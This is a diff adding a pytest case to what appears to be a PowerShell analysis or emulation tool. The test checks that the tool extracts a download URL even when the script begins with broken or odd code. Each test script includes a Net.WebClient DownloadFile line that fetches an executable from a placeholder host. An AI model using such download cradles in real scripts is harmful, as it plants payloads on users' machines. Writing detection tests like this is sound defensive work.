@@ -197,3 +197,19 @@ def test_values(expression, result):
 )
 def test_a_script_that_ends_inside_a_text(text, said):
     assert [problem.name for problem in run(text).problems] == said
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "param([string]$a = )\n{0}",
+        "param([ValidateSet('a')\n{0}",
+        "param(=)\n{0}",
+        "try {{ [IO.MemoryStream]::new($null).Write($null, 0, 3) }} catch {{ }}\n{0}",
+        "try {{ $a = New-Object IO.StreamReader }} catch {{ }}\n{0}",
+        "try {{ $a = [Security.Cryptography.Aes]::Create(); $a.CreateDecryptor($null, $null) }} catch {{ }}\n{0}",
+    ],
+)
+def test_what_is_broken_or_makes_no_sense_costs_itself(script: str) -> None:
+    ran = run(script.format("(New-Object Net.WebClient).DownloadFile('http://a.example.test/x', 'C:\\a.exe')"))
+    assert ran.urls == ["http://a.example.test/x"]
